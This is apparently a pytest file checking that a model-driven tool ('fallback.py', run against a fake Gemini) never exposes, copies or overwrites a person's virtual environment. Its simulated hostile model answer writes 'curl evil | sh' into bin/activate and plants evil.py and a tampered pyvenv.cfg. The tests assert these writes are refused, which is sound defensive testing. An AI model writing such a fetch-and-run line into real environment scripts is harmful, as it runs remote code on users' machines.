"""A person's virtual environment in the folder, through `python fallback.py` against the fake Gemini: made in the
folder itself (python -m venv .) or in a folder of any name at any depth, it is never the model's: never shown in a
prompt, copied into the working copy, snapshotted or landed over, and the runs go on beside it.
"""
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

import fake_gemini as api
from conftest import load_keeper
from test_fallback import outcomes, run_fallback

pytestmark = pytest.mark.xdist_group("test_venv")

ATTACK = [("notes.py", "N = 1\n"), ("pyvenv.cfg", "home = /tmp/evil\n"), ("bin/activate", "curl evil | sh\n"),
          ("lib/evil.py", "EVIL = 1\n")]  # the model's answer: a file of its own, and over the venv's


def venv(folder, *options):
    subprocess.run([sys.executable, "-m", "venv", *options, str(folder)], check=True, capture_output=True)


def test_a_venv_made_in_the_folder_itself_is_never_the_models_and_the_runs_go_on(workspace, env, gemini):
    venv(workspace, "--without-pip")  # then pip where ensurepip puts it (copied: ensurepip takes 4 s): some 550 files
    pip = Path(sysconfig.get_paths()["purelib"]) / "pip"  # that were the codebase, and 280,000 lines of prompt
    shutil.copytree(pip, Path(sysconfig.get_paths(vars={"base": str(workspace)})["purelib"]) / "pip",
                    ignore=shutil.ignore_patterns("__pycache__"))
    cfg, activate = (workspace / "pyvenv.cfg").read_bytes(), (workspace / "bin" / "activate").read_bytes()
    gemini.reply(api.answer(ATTACK))
    done = run_fallback(workspace, env, "--iterations", "1", timeout=180)
    assert done.returncode == 0 and outcomes(workspace) == ["landed: 1 file(s) changed"], done.stdout + done.stderr
    assert "codebase 1 → 2 files" in done.stdout, done.stdout  # seed.py, then notes.py: no file of the venv
    assert (workspace / "pyvenv.cfg").read_bytes() == cfg and (workspace / "bin" / "activate").read_bytes() == activate
    assert not (workspace / "lib" / "evil.py").exists()
    prompt = gemini.prompts()[0]  # the seed shows every file of its working copy: none of the venv was copied
    assert "pyvenv.cfg" not in prompt and "bin/activate" not in prompt and "site-packages" not in prompt


def test_a_venv_of_any_name_at_any_depth_is_never_the_models(workspace, env, gemini):
    for folder in ["myenv", ".venv", "tools/env2"]:
        venv(workspace / folder, "--without-pip")
    gemini.reply(api.answer([("notes.py", "N = 1\n"), ("myenv/lib/evil.py", "EVIL = 1\n"),
                             ("tools/env2/pyvenv.cfg", "home = /tmp/evil\n"), ("tools/run.py", "R = 1\n")]))
    done = run_fallback(workspace, env, "--iterations", "1")
    assert done.returncode == 0 and outcomes(workspace) == ["landed: 2 file(s) changed"], done.stdout + done.stderr
    assert not (workspace / "myenv" / "lib" / "evil.py").exists() and (workspace / "tools" / "run.py").is_file()
    assert "home = /tmp/evil" not in (workspace / "tools" / "env2" / "pyvenv.cfg").read_text()
    assert "activate" not in gemini.prompts()[0] and "pyvenv.cfg" not in gemini.prompts()[0]


def test_a_folder_too_deep_for_the_persons_folder_is_no_venv_and_asking_never_fails():
    """Whether a folder of the working copy is a venv is asked of the person's folder too, by its path there; a run
    that left a tree deeper than that path can be (here 4,090 bytes of names) was refused as "cannot be listed
    (File name too long)" instead of by its name's length, for a folder whose own path is 69 to 79 bytes long."""
    snapshots = load_keeper("snapshots")
    rel = "/".join(["d" * 250] * 16) + "/" + "e" * 74  # 4,090 bytes: with the folder's path, past PATH_MAX
    assert snapshots.of_a_venv(rel, True, lambda path: False) is False
